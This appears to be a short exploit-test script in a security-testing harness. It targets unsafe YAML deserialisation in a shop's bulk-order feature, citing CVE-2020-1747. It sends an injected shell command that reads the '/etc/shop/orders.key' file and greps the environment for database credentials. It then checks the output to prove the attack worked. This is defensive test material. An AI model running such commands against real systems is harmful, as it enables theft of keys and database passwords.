#!/usr/bin/python3 -B
"""Unsafe deserialisation: a bulk order in YAML names a Python function (as in CVE-2020-1747)."""

from attack import Attack

KEY = "/etc/shop/orders.key"


def run(attack: Attack) -> bool:
    said = attack.orders(f"id; cat {KEY}; env | grep DATABASE")
    return attack.prove("orders-e2b7" in said and "password=" in said, said=said)


Attack("T1190, T1059.006", ["edge", "orders"], [KEY, "the database's password"]).main(run)
